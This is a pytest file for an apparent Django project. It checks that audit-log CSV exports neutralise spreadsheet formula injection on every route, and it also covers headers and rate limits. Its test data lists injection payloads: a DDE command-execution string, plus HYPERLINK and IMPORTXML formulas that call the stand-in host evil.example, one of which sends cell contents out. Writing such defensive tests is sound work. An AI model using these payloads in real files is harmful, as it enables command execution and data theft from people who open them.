"""CSV: nothing that anybody is called becomes a formula, by whichever door the file leaves."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.core.management import call_command

from audit import services
from audit.actions import Action
from audit.exports import harmless
from hyprbox.lib.actors import Actor
from tests.factories import make_user

DANGEROUS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example","x")', "=", "+1", "+SUM(A1:A9)", "-1", "-2+3",
    "@SUM(1)", "@x", "\t=1", "\tplain", "\r=1", "\rplain", "=\"quoted\"", "-", "+", "@", "=a,b\n=c",
    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
]  # fmt: skip
PLAIN = ["", "web-1", "1-1", "a=b", "user@example.com", " =1", '"=1"', "é", "0", "'=1"]


def test_there_are_twenty() -> None:
    assert len(set(DANGEROUS)) == 20


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_begins_like_a_formula_is_quoted(text: str) -> None:
    assert harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", PLAIN)
def test_all_else_stays_as_it_is(text: str) -> None:
    assert harmless(text) == text
    assert harmless(None) == ""


def files(client: Any, api: Any, ada: Any) -> dict[str, str]:
    """The same log by every door that gives CSV."""
    written = io.StringIO()
    call_command("audit_export", "--format", "csv", stdout=written)
    client.force_login(ada)
    doors = {"page": client.get("/audit/export/?format=csv"), "api": api.by(ada).get("/api/audit/export?format=csv")}
    for answer in doors.values():
        assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert answer.headers["Content-Disposition"].startswith("attachment")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
    told = {name: b"".join(answer.streaming_content).decode() for name, answer in doors.items()}
    return {**told, "command": written.getvalue()}


def test_no_door_gives_a_file_with_a_formula_in_it(client: Any, api: Any, ada: Any) -> None:
    for text in DANGEROUS:
        by = Actor.system(text)
        services.record(Action.NODE_CHANGED, by=by, target=text, detail={text: text})
    for door, text in files(client, api, ada).items():
        rows = list(csv.reader(io.StringIO(text, newline="")))
        assert len(rows) > len(DANGEROUS), door
        cells = [cell for row in rows for cell in row]
        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], door
        assert sum(cell.startswith("'") for cell in cells) >= 2 * (len(DANGEROUS) - 4), (
            door
        )  # tab and CR are spelled out
        lines = io.StringIO(text, newline="")
        assert all(line.startswith('"') and line.endswith('"\r\n') for line in lines if line.strip()), door


def test_exports_have_a_rate(client: Any, vera: Any) -> None:
    eager = make_user("eager", "admin")
    client.force_login(eager)
    statuses = [client.get("/audit/export/?format=csv").status_code for _ in range(11)]
    assert statuses == [200] * 10 + [429]


def test_no_other_code_makes_csv() -> None:
    root = Path(settings.BASE_DIR)
    makers = {
        str(path.relative_to(root))
        for package in ("accounts", "agent", "audit", "hyprbox", "jobs", "nodes", "presets", "tokens")
        for path in (root / package).rglob("*.py")
        if "tests" not in path.parts and re.search(r"^import csv|text/csv", path.read_text(), re.MULTILINE)
    }
    assert makers == {"audit/exports.py", "audit/schema.py"}
